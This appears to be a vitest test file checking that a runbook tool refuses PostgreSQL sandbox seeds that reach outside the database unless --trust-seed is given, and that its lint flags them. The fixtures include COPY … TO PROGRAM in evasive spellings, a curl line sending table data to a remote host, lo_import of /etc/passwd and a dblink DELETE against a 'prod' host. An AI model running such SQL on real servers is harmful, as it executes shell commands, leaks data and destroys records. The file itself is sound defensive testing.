/**
 * A sandbox seed is code from a runbook folder, run as the sandbox's superuser. One that
 * reaches outside the database (here `COPY … TO PROGRAM 'touch <file>'`) runs only once its
 * content has been confirmed: unattended it is refused with one line naming --trust-seed
 * (exit 2, nothing started, the program never runs); --trust-seed runs it and the sandbox
 * remembers the content's sha256, so the same seed is not refused again; changed content
 * is a new seed. A seed that only builds its database runs without a word (the quick start).
 */
import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ensureSandbox, sandboxStatus } from '../src/engine/sandbox.js';
import { freshSandboxEnv, removeSandbox } from './sandbox.helpers.js';
import { runCli, tempDir } from './runner-support.js';

const env = { ...freshSandboxEnv(), CI: 'true' };
afterAll(() => removeSandbox(env));

const RUNBOOK = '# T\n\n## Count\n\n```sql {name=count readonly}\nSELECT count(*) FROM t;\n```\n';

function world(seed: (marker: string) => string): { dir: string; runbook: string; seedFile: string; marker: string } {
  const dir = tempDir('runbook-seed-trust-');
  // The program runs as the server's user (as root: the unprivileged postgres), which must be able to write there.
  const markers = mkdtempSync(join(tmpdir(), 'runbook-seed-marker-'));
  chmodSync(markers, 0o777);
  const marker = join(markers, 'ran-a-program');
  writeFileSync(join(dir, 't.md'), RUNBOOK);
  writeFileSync(join(dir, 't.sandbox.sql'), seed(marker));
  return { dir, runbook: join(dir, 't.md'), seedFile: join(dir, 't.sandbox.sql'), marker };
}

const program = (marker: string) => `CREATE TABLE t (id int);\nINSERT INTO t VALUES (1);\nCOPY t TO PROGRAM 'touch ${marker}';\n`;

describe('a sandbox seed that reaches outside the database', () => {
  it('is refused unattended before anything starts: one line with --trust-seed, exit 2, the program never runs', async () => {
    const { dir, runbook, marker } = world(program);
    const transcript = join(dir, 'run.jsonl');
    const run = await runCli(['run', runbook, '--yes', '--transcript', transcript], { env });
    expect(run.code, run.stdout + run.stderr).toBe(2);
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
    expect(run.stderr).toMatch(/t\.sandbox\.sql reaches outside the database \(line 3: runs a program on this machine \(COPY … TO PROGRAM\)\).*--trust-seed/);
    expect(run.stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(transcript)).toBe(false);
    // Nothing was started: the sandbox was never even initialised.
    expect(sandboxStatus({ env }).initialised).toBe(false);

    const start = await runCli(['sandbox', 'start', '--runbook', runbook], { env });
    expect(start.code, start.stdout + start.stderr).toBe(2);
    expect(start.stderr).toContain('--trust-seed');
    expect(existsSync(marker)).toBe(false);
    expect(sandboxStatus({ env }).initialised).toBe(false);
  }, 120_000);

  it('the engine refuses it too, whoever calls, and a confirmation of other content does not count', async () => {
    const { seedFile, marker } = world(program);
    await expect(ensureSandbox({ seedFile, env })).rejects.toThrow(/reaches outside the database/);
    await expect(ensureSandbox({ seedFile, env, confirmedSeed: 'a'.repeat(64) })).rejects.toThrow(/--trust-seed/);
    expect(existsSync(marker)).toBe(false);
  });

  it('--trust-seed runs it once; the sandbox remembers that content; changed content is asked about again', async () => {
    const { dir, runbook, seedFile, marker } = world(program);
    const run = await runCli(['run', runbook, '--yes', '--trust-seed', '--transcript', join(dir, 'a.jsonl')], { env });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stderr).toMatch(/--trust-seed: running the sandbox seed .*t\.sandbox\.sql \(sha256 [0-9a-f]{64}\)/);
    expect(existsSync(marker)).toBe(true);

    // reset runs the seed again: the same content needs no flag now.
    rmSync(marker);
    const reset = await runCli(['sandbox', 'reset', '--runbook', runbook], { env });
    expect(reset.code, reset.stdout + reset.stderr).toBe(0);
    expect(existsSync(marker)).toBe(true);

    // One byte more is another seed.
    rmSync(marker);
    writeFileSync(seedFile, `${program(marker)}-- edited\n`);
    const again = await runCli(['sandbox', 'reset', '--runbook', runbook], { env });
    expect(again.code, again.stdout + again.stderr).toBe(2);
    expect(again.stderr).toContain('--trust-seed');
    expect(existsSync(marker)).toBe(false);
  }, 180_000);

  it('hostile spellings are seen: a quoted name, a schema, a DO block building the statement, a session directive', async () => {
    const spellings = [
      (m: string) => `CREATE TABLE t (id int);\nSELECT "lo_export"(lo_from_bytea(0, 'x'), '${m}');\n`,
      (m: string) => `CREATE TABLE t (id int);\nSELECT pg_catalog.LO_EXPORT(lo_from_bytea(0, 'x'), '${m}');\n`,
      (m: string) => `CREATE TABLE t (id int);\nDO $$ BEGIN EXECUTE 'CO' || 'PY t TO PRO' || 'GRAM ''touch ${m}'''; END $$;\n`,
      (m: string) => `CREATE TABLE t (id int);\nCREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$ COPY t TO PROGRAM 'touch ${m}' $f$;\nSELECT f();\n`,
      (m: string) => `-- runbook:session name=w role=postgres sql="COPY (SELECT 1) TO PROGRAM 'touch ${m}'"\nCREATE TABLE t (id int);\n`,
    ];
    for (const spelling of spellings) {
      const { dir, runbook, marker } = world(spelling);
      const run = await runCli(['run', runbook, '--yes', '--transcript', join(dir, 'run.jsonl')], { env });
      expect(run.code, spelling(marker) + run.stderr).toBe(2);
      expect(run.stderr).toContain('--trust-seed');
      expect(existsSync(marker)).toBe(false);
    }
  }, 180_000);

  it('a seed that only builds its database runs without a question or a flag', async () => {
    const { dir, runbook } = world(() => 'CREATE TABLE t (id int);\nINSERT INTO t VALUES (1), (2);\nCOPY t TO STDOUT;\n');
    const run = await runCli(['run', runbook, '--yes', '--transcript', join(dir, 'run.jsonl')], { env });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toContain('2');
  }, 120_000);
});

describe('lint on a seed', () => {
  it('warns (seed-reach) with the seed line for PROGRAM, lo_*, dblink, from the parse tree', async () => {
    const dir = tempDir('runbook-seed-lint-');
    writeFileSync(join(dir, 's.md'), RUNBOOK);
    writeFileSync(
      join(dir, 's.sandbox.sql'),
      "CREATE TABLE t (id int);\n-- COPY t TO PROGRAM 'in a comment: not a statement'\nCOPY t TO PROGRAM 'curl -d @- http://x';\nSELECT \"lo_import\"('/etc/passwd');\nSELECT public.dblink_exec('host=prod', 'DELETE FROM t');\nSELECT 'dblink and PROGRAM in a string';\n",
    );
    const result = await runCli(['lint', join(dir, 's.md')]);
    expect(result.code, result.stdout + result.stderr).toBe(0);
    const warnings = result.stdout.split('\n').filter((line) => line.includes('(seed-reach)'));
    expect(warnings).toHaveLength(3);
    expect(warnings[0]).toMatch(/s\.sandbox\.sql:3 reaches outside the database: runs a program on this machine \(COPY … TO PROGRAM\)/);
    expect(warnings[1]).toMatch(/s\.sandbox\.sql:4 reaches outside the database: lo_import: reads a file/);
    expect(warnings[2]).toMatch(/s\.sandbox\.sql:5 reaches outside the database: dblink_exec: connects to another server/);
  });

  it('the shipped dragonfly seed reaches nothing outside: no warning, no question', async () => {
    const result = await runCli(['lint', 'runbooks/dragonfly.md']);
    expect(result.stdout).not.toContain('seed-reach');
  });
});
